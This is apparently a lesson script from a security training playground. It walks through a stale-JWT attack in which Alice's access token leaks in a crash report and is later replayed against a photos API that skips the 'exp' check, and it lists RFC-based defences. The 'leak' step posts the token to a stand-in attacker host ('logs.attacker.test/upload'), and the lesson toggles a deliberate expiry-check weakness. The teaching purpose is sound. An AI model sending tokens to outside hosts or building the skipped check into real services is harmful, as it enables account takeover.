"""An expired access token, found a day later, at an API that ignores `exp`."""

from playground import Lesson

ALICE = "u-1001"
LOG_SERVICE = "https://logs.attacker.test/upload"
ONE_DAY = 24 * 60 * 60

lesson = Lesson(
    "Stale JWT: an expired token still accepted",
    level="advanced",
    kind="attack",
    weakness="rs.skip_expiry_check",
    summary=(
        "Access tokens live one hour so that a leaked one is soon worthless. "
        "Alice's token leaks into a crash log; Mallory finds it a day later. "
        "An API that never compares `exp` with its clock still serves "
        "Alice's photos to whoever holds it."
    ),
    defence="""
- **Check `exp` on every request.** RFC 7519 4.1.4: a JWT MUST NOT be
  accepted on or after its expiry time; RFC 9068 4 makes that part of the
  resource server's validation of JWT access tokens (allow only a small
  clock skew). PyJWT does it in `jwt.decode` unless told not to
  (`verify_exp`), and raises `ExpiredSignatureError`.
- **Keep access tokens short-lived** (RFC 6819 5.1.5.3, RFC 6750 5.3): the
  lifetime is the window a leaked token is worth anything, and only an API
  that checks `exp` enforces it.
- **Keep tokens out of logs and URLs** (RFC 6750 5.3 for URLs; RFC 9700
  4.9.3: treat tokens as secrets, never stored in plaintext): the
  leak in this lesson is the real fault; expiry only limits it.
- **Within the hour, expiry does not help.** Sender-constrained tokens
  (DPoP, RFC 9449; mutual TLS, RFC 8705) make a copied token useless to
  anyone without the client's key (RFC 9700 2.2.1); an API that must react
  to revocation at once uses introspection (RFC 7662).
""",
)


@lesson.step("Alice uses Photo Uploader")
def alice_signs_in(run):
    """
    Alice signs in to **Photo Uploader**, the desktop app of lesson 03b
    (authorization code with PKCE, through her browser; the helper
    `run.code_flow` does it in one go). The app gets an
    access token for the photos API and shows her photos.

    In the JWT panel, look at `iat` and `exp`: the token is good for one
    hour (`expires_in: 3600` in the token response). That hour is all a
    thief is supposed to get.
    """
    response = run.code_flow(run.native_app, run.browser, "alice", "wonderland")
    run.alices_token = response.json().get("access_token", "")
    photos = run.native_app.call_api("/api/photos", run.alices_token)
    claims = run.decode(run.alices_token).claims
    run.check("the token endpoint answers 200", response.status_code == 200)
    run.check("the app shows Alice's photos (200)", photos.status_code == 200)
    run.check(
        "the token lives 3600 seconds (exp - iat)",
        claims.get("exp", 0) - claims.get("iat", 0) == 3600,
    )


@lesson.step("The token leaks into a crash report")
def leak(run):
    """
    The app crashes. Its crash reporter uploads the app's state to a
    log-collection service, and that state includes `access_token=...`.
    The service's storage is readable by anyone who finds it; here the
    service runs at `logs.attacker.test`, so you can see Mallory
    receive it.

    Read the request: a `POST /upload` from the **client** to the
    **attacker**, with Alice's token in the body. Tokens in logs are a
    classic leak (RFC 9700 4.9.3: treat tokens like other secrets).
    """
    response = run.native_app.http.post(
        LOG_SERVICE,
        data={"event": "crash", "screen": "photos", "access_token": run.alices_token},
    )
    run.check("the upload went through (204)", response.status_code == 204)
    run.check(
        "Mallory's site received Alice's access token",
        run.attacker.loot("access_token") == [run.alices_token],
    )


@lesson.step("A day later, Mallory finds it")
def a_day_later(run):
    """
    Mallory only looks at the logs the next day. We move the world's clock
    forward 24 hours; no waiting.

    The JWT panel decodes the token at the new time: its signature is still
    perfect (nobody tampered with anything), but `exp` is 23 hours in the
    past, so the verdict is `ExpiredSignatureError`.
    """
    run.clock.advance(ONE_DAY)
    run.stolen_token = run.attacker.loot("access_token")[-1]
    shown = run.show_jwt(run.stolen_token, "Alice's leaked token, a day later")
    run.check("it is Alice's token (sub u-1001)", shown.claims.get("sub") == ALICE)
    run.check(
        "it expired 23 hours ago",
        shown.expires_in is not None and shown.expires_in == 3600 - ONE_DAY,
    )
    run.check(
        "a verifier that checks exp refuses it (ExpiredSignatureError)",
        shown.verification.exception == "ExpiredSignatureError",
    )


@lesson.step("Mallory tries the stale token at the photos API")
def present(run):
    """
    Read the response.

    **Weakness on** (`rs.skip_expiry_check`): the signature, issuer and
    audience are all fine, and the API never compares `exp` with its clock.
    **200**, Alice's profile, a day after the token should have died.

    **Defended**: **401** `invalid_token`, and `error_description` says
    which check fired and why: `ExpiredSignatureError: the token expired at
    exp ... (now ...)`. Both numbers are epoch seconds; their difference is
    the 23 hours.
    """
    exp = run.decode(run.stolen_token).claims.get("exp")
    run.expiry_check = (
        f"ExpiredSignatureError: the token expired at exp {exp} (now {run.clock.now()})"
    )
    run.present_to_api(run.stolen_token, refused_because=run.expiry_check)


@lesson.step("And Alice's photos")
def photos(run):
    """
    Mallory asks for `/api/photos` with the same token.

    **Weakness on**: Alice's photos, and the server event
    `access_token.accepted` for user `u-1001`. Without an expiry check a
    token lives for ever: every leaked token ever issued still works.

    **Defended**: 401 again, and `access_token.rejected` with the reason.
    """
    run.present_to_api(
        run.stolen_token, "/api/photos", refused_because=run.expiry_check, audit=True
    )
